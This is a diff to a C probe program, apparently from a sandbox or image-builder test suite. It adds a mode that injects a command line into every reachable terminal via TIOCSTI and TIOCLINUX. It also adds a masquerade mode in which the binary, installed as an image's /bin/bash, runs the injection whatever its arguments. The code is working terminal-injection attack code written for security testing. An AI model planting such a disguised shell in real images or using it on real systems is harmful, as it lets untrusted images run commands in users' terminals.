@@ -9,6 +9,13 @@
  *   userns                   unshare(CLONE_NEWUSER)
  *   open-rw DEVICE           opens DEVICE read-write and reads 512 bytes from it
  *   raw-socket               opens a packet socket (sniffs and forges the host's traffic)
+ *   tiocsti LINE             pushes LINE into every terminal it reaches (its controlling one
+ *                            through /dev/tty, and fds 0-2 that are terminals) with TIOCSTI,
+ *                            and tries TIOCLINUX on each; exits 0 if any byte went in
+ *
+ * Installed as a tree's /bin/bash (argv[0] ends in "bash"), it runs `tiocsti` with the line in
+ * $PROBE_LINE or "touch /tmp/pwned-by-bash", whatever its arguments: the hostile image whose
+ * shell the builder's own checks run.
  */
 #define _GNU_SOURCE
 #include <errno.h>
@@ -19,6 +26,7 @@
 #include <string.h>
 #include <sys/stat.h>
 #include <sys/socket.h>
+#include <sys/ioctl.h>
 #include <sys/syscall.h>
 #include <arpa/inet.h>
 #include <linux/if_ether.h>
@@ -32,10 +40,50 @@ static int failed(const char *what) {
     return 1;
 }
 
+/* TIOCSTI, byte by byte, then TIOCLINUX (TIOCL_PASTESEL), on every terminal reachable. */
+static int inject(const char *line) {
+    int fds[4], n = 0, reached = 0;
+    int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
+    if (tty < 0)
+        printf("open /dev/tty: %s\n", strerror(errno));
+    else
+        fds[n++] = tty;
+    for (int fd = 0; fd < 3; fd++)
+        if (isatty(fd))
+            fds[n++] = fd;
+    for (int i = 0; i < n; i++) {
+        const char *c = line;
+        for (; *c; c++)
+            if (ioctl(fds[i], TIOCSTI, c) != 0)
+                break;
+        if (*c == 0) {
+            printf("TIOCSTI on fd %d: injected\n", fds[i]);
+            reached = 1;
+        } else {
+            printf("TIOCSTI on fd %d: %s\n", fds[i], strerror(errno));
+        }
+        char paste = 3;
+        if (ioctl(fds[i], TIOCLINUX, &paste) == 0)
+            printf("TIOCLINUX on fd %d: done\n", fds[i]);
+        else
+            printf("TIOCLINUX on fd %d: %s\n", fds[i], strerror(errno));
+    }
+    printf("terminals tried: %d\n", n);
+    fflush(stdout);
+    return reached ? 0 : 1;
+}
+
 int main(int argc, char **argv) {
+    size_t len0 = strlen(argv[0]);
+    if (len0 >= 4 && strcmp(argv[0] + len0 - 4, "bash") == 0) {
+        const char *line = getenv("PROBE_LINE");
+        return inject(line ? line : "touch /tmp/pwned-by-bash\n");
+    }
     if (argc < 2)
         return 2;
     const char *mode = argv[1];
+    if (strcmp(mode, "tiocsti") == 0 && argc == 3)
+        return inject(argv[2]);
     if (strcmp(mode, "args") == 0 && argc >= 3) {
         for (int i = 3; i < argc; i++)
             fwrite(argv[i], 1, strlen(argv[i]) + 1, stdout);
